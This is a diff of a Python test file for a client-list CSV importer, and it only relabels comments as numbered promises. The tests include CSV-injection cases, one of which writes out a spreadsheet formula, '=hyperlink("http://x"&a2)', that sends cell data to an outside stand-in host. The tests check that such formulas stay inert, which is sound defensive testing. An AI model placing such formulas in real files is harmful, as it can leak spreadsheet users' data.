@@ -120,7 +120,7 @@ def test_lines_are_counted_as_an_editor_does(store: Store) -> None:
     assert [refusal.line for refusal in plan.refused] == [6]
 
 
-# safety.md row 16; OWASP, CSV injection
+# promise 16; OWASP, CSV injection
 @pytest.mark.parametrize("sign", ["=", "+", "-", "@"])
 def test_a_formula_comes_in_as_text_and_goes_round(store: Store, sign: str) -> None:
     typed = f"{sign}1+1"
@@ -134,7 +134,7 @@ def test_a_formula_comes_in_as_text_and_goes_round(store: Store, sign: str) -> N
     assert again.refused[0].why == f"A client named {typed} is there already."
 
 
-# safety.md row 16
+# promise 16
 def test_a_formula_for_a_heading_goes_out_as_text_and_comes_in_again(store: Store) -> None:
     column = '=hyperlink("http://x"&a2)'
     plan = plan_import(store, f'name,"{column.replace(chr(34), chr(34) * 2)}"\n,lost\n'.encode())
@@ -152,7 +152,7 @@ def test_our_own_list_of_clients_comes_in_again(store: Store, tmp_path: Path) ->
         assert plan.left_out == ()
 
 
-# safety.md row 28: no answer is made up
+# promise 28: no answer is made up
 def test_a_client_from_a_list_has_agreed_to_nothing(store: Store) -> None:
     bring_in(store, plan_import(store, b"name\nAda\n"))
     [summary] = store.clients()
@@ -237,7 +237,7 @@ def test_days_and_months_are_never_guessed(
         assert [visit.on for _, visit in plan.visits] == found
 
 
-# safety.md row 18
+# promise 18
 def test_all_of_a_list_or_nothing(store: Store) -> None:
     ada, bea = add_client(store, "Ada"), add_client(store, "Bea")
     plan = plan_import(store, b"client,date\nAda,2025-01-01\nBea,2025-01-02\n", today=TODAY)
